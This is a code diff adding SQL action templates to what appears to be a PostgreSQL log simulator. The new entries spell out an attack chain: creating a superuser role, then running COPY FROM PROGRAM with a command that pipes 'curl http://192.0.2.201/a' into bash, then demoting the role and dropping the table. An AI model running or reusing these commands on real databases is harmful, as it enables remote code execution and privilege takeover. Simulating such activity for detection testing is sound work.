@@ -12,6 +12,9 @@ LOG = Log("postgresql@main", "server", "{day}.ndjson.gz")
 ACTS: dict[str, str] = {
     "read": "SELECT * FROM {} WHERE updated_at > $1", "write": "INSERT INTO {} VALUES ($1, $2, $3)",
     "copy": "COPY {} TO STDOUT", "tables": "SELECT table_name FROM information_schema.tables",
+    "superuser": "CREATE ROLE {} WITH LOGIN SUPERUSER CREATEDB CREATEROLE", "scratch": "CREATE TABLE {} (line text)",
+    "demote": "ALTER ROLE {} NOSUPERUSER", "drop": "DROP TABLE {}", "version": "SELECT version()",
+    "program": "COPY {} FROM PROGRAM 'id; uname -a; curl -s http://192.0.2.201/a | bash'",
     "roles": "SELECT rolname, rolsuper FROM pg_roles",
 }  # fmt: skip
 
